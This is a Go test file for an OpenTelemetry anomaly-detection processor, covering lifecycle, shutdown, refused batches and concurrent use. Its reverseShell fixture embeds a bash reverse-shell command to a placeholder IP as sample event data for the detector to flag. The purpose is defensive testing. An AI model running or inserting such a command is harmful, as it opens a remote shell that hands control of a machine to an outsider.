// SPDX-License-Identifier: Apache-2.0

package anomalyprocessor

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/component"
	"go.opentelemetry.io/collector/component/componenttest"
	"go.opentelemetry.io/collector/consumer"
	"go.opentelemetry.io/collector/consumer/consumertest"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/plog"
	"go.opentelemetry.io/collector/processor/processortest"

	"github.com/meerkat-otel/meerkat/internal/names"
	"github.com/meerkat-otel/meerkat/internal/shared"
	"github.com/meerkat-otel/meerkat/processor/anomalyprocessor/internal/record"
)

func defaultConfig() *Config { return createDefaultConfig().(*Config) }

// reverseShell is an event for which a rule of a high level raises an incident at once.
func reverseShell(workload string, pid int64, at time.Time) plog.Logs {
	data := plog.NewLogs()
	resource := data.ResourceLogs().AppendEmpty()
	put := resource.Resource().Attributes().PutStr
	put(names.EnrichmentStatus, "resolved")
	put(names.K8sNamespaceName, "shop")
	put(names.K8sDeploymentName, workload)
	put(names.ContainerID, "c1")
	log := resource.ScopeLogs().AppendEmpty().LogRecords().AppendEmpty()
	log.SetEventName(names.EventProcessExec)
	log.SetTimestamp(pcommon.NewTimestampFromTime(at))
	log.Attributes().PutInt(names.ProcessPID, pid)
	log.Attributes().PutStr(names.ProcessExecutablePath, "/bin/bash")
	arguments := log.Attributes().PutEmptySlice(names.ProcessCommandArgs)
	for _, argument := range []string{"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"} {
		arguments.AppendEmpty().SetStr(argument)
	}
	return data
}

// states returns what was told of incidents.
func states(sink *consumertest.LogsSink) []string {
	var all []string
	for _, batch := range sink.AllLogs() {
		if log := batch.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords().At(0); log.EventName() == names.EventIncident {
			state, _ := log.Attributes().Get(names.IncidentState)
			all = append(all, state.Str())
		}
	}
	return all
}

func TestLifecycle(t *testing.T) {
	withoutStart := newPair(t, defaultConfig())
	withoutStart.shutdown(t)
	p := newPair(t, defaultConfig())
	p.start(t)
	p.shutdown(t)
	p.shutdown(t)
}

// What is not due yet is told at the end.
func TestLifecycle_shutdownTellsTheRest(t *testing.T) {
	p := newPair(t, defaultConfig())
	p.start(t)
	for n := range int64(3) {
		require.NoError(t, p.pipelines[0].ConsumeLogs(t.Context(), reverseShell("web", 7+n, beginning)))
	}
	assert.Equal(t, []string{"opened"}, states(p.sinks[0]))
	p.shutdown(t)
	assert.Equal(t, []string{"opened", "updated"}, states(p.sinks[0]))
}

// Events that come after the other pipeline was shut down are judged still.
func TestLifecycle_afterShutdown(t *testing.T) {
	p := newPair(t, defaultConfig())
	p.start(t)
	p.shutdown(t)
	require.NoError(t, p.pipelines[1].ConsumeLogs(t.Context(), reverseShell("web", 7, beginning)))
	assert.Equal(t, []string{"opened"}, states(p.sinks[1]))
}

// refusing takes nothing for a while.
type refusing struct {
	consumertest.LogsSink
	refuses bool
}

func (*refusing) Capabilities() consumer.Capabilities { return consumer.Capabilities{} }

func (r *refusing) ConsumeLogs(ctx context.Context, data plog.Logs) error {
	if r.refuses {
		return errors.New("full")
	}
	return r.LogsSink.ConsumeLogs(ctx, data)
}

// An incident that the pipeline refused is told again, as opened.
func TestLifecycle_refused(t *testing.T) {
	next := &refusing{refuses: true}
	f := &factory{shared.NewInstances[*Config, *core]()}
	made, err := f.logs(t.Context(), processortest.NewNopSettings(component.MustNewType(componentType)), defaultConfig(), next)
	require.NoError(t, err)
	require.NoError(t, made.Start(t.Context(), componenttest.NewNopHost()))
	require.Error(t, made.ConsumeLogs(t.Context(), reverseShell("web", 7, time.Now())))
	core := made.(*logs).core.Unwrap()
	assert.Equal(t, uint64(1), core.tally.refused.Load())
	next.refuses = false
	core.upkeep(t.Context())
	assert.Equal(t, []string{"opened"}, states(&next.LogsSink))
	require.NoError(t, made.Shutdown(context.Background()))
	assert.Equal(t, []string{"opened"}, states(&next.LogsSink))
}

// A batch that is sent again after the pipeline has refused it goes on, and counts once. The same again, which nobody has refused, counts.
func TestLifecycle_again(t *testing.T) {
	for _, forward := range []string{forwardAll, forwardIncidents} {
		next := &refusing{refuses: true}
		f := &factory{shared.NewInstances[*Config, *core]()}
		config := defaultConfig()
		config.Forward = forward
		made, err := f.logs(t.Context(), processortest.NewNopSettings(component.MustNewType(componentType)), config, next)
		require.NoError(t, err)
		require.NoError(t, made.Start(t.Context(), componenttest.NewNopHost()))
		core := made.(*logs).core.Unwrap()
		judged := &core.tally.outcomes[record.Read]
		require.Error(t, made.ConsumeLogs(t.Context(), reverseShell("web", 7, beginning)))
		require.Error(t, made.ConsumeLogs(t.Context(), reverseShell("web", 7, beginning)))
		assert.Equal(t, uint64(1), judged.Load())
		next.refuses = false
		require.NoError(t, made.ConsumeLogs(t.Context(), reverseShell("web", 7, beginning)))
		assert.Equal(t, uint64(1), judged.Load())
		assert.Equal(t, 1, next.LogRecordCount())
		require.NoError(t, made.ConsumeLogs(t.Context(), reverseShell("web", 7, beginning)))
		assert.Equal(t, uint64(2), judged.Load())
		assert.Equal(t, uint64(2), core.tally.again.Load())
		require.NoError(t, made.Shutdown(t.Context()))
	}
}

// The incident of a workload that has to be forgotten for another is closed.
func TestLifecycle_forgottenWorkload(t *testing.T) {
	config := defaultConfig()
	config.Limits.WorkloadsMax = 1
	p := newPair(t, config)
	p.start(t)
	require.NoError(t, p.pipelines[0].ConsumeLogs(t.Context(), reverseShell("one", 7, beginning)))
	require.NoError(t, p.pipelines[0].ConsumeLogs(t.Context(), reverseShell("two", 7, beginning)))
	p.core.upkeep(t.Context())
	assert.ElementsMatch(t, []string{"opened", "opened", "closed"}, states(p.sinks[0]))
	p.shutdown(t)
}

// Two pipelines, upkeep and the reading of metrics at once.
func TestLifecycle_atOnce(t *testing.T) {
	config := defaultConfig()
	config.Limits.WorkloadsMax = 3
	p := newPair(t, config)
	p.start(t)
	var all sync.WaitGroup
	for at := range 4 {
		all.Go(func() {
			for n := range 50 {
				workload := fmt.Sprintf("w%d", n%5)
				assert.NoError(t, p.pipelines[at%2].ConsumeLogs(context.Background(), reverseShell(workload, int64(1+at*1000+n), beginning)))
				if n%10 == 0 {
					p.core.upkeep(context.Background())
				}
			}
		})
	}
	all.Wait()
	p.shutdown(t)
	assert.Positive(t, p.core.profiles.Stats().Forgotten)
}

func TestFactory_capabilities(t *testing.T) {
	p := newPair(t, defaultConfig())
	assert.False(t, p.pipelines[0].Capabilities().MutatesData)
	config := defaultConfig()
	config.Forward = forwardIncidents
	assert.True(t, newPair(t, config).pipelines[0].Capabilities().MutatesData)
	config = defaultConfig()
	config.EventNameAttribute = true
	assert.True(t, newPair(t, config).pipelines[0].Capabilities().MutatesData)
	assert.Equal(t, component.MustNewType("anomaly"), NewFactory().Type())
}
